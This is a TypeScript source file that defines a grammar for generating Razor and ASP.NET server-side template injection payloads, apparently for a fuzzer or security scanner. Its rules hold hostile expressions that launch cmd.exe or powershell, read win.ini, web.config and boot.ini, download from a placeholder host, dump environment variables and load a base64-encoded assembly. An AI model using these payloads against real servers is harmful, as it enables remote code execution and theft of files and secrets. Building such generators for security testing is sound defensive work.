// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Razor and ASP.NET's inline expressions. */
export const razorExpression = templateGenerator({
  name: 'razor-expression',
  engines: ['razor'],
  rules: {
    start: [
      '{before}@({code}){after}',
      '@{l} {code}; {r}',
      '@{code}',
      '<%= {code} %>',
      '<% {code}; %>',
      '<%# {code} %>',
      '@({digit}+{digit})@({code})',
    ],
    code: [
      'System.Diagnostics.Process.Start("{exe}","/c {command}")',
      'System.IO.File.ReadAllText("{winfile}")',
      'new System.Net.WebClient().DownloadString("http://{host}/")',
      'System.Environment.GetEnvironmentVariables()',
      'System.Diagnostics.Process.Start("{exe}")',
      'typeof(string).Assembly.GetType("System.AppDomain")',
      'System.IO.Directory.GetFiles("C:\\")',
      'this.GetType().Assembly.GetTypes()',
      'System.Reflection.Assembly.Load(System.Convert.FromBase64String("{letters}"))',
    ],
    exe: ['cmd.exe', 'powershell', 'calc'],
    winfile: ['C:\\Windows\\win.ini', '../web.config', 'C:/boot.ini'],
  },
});
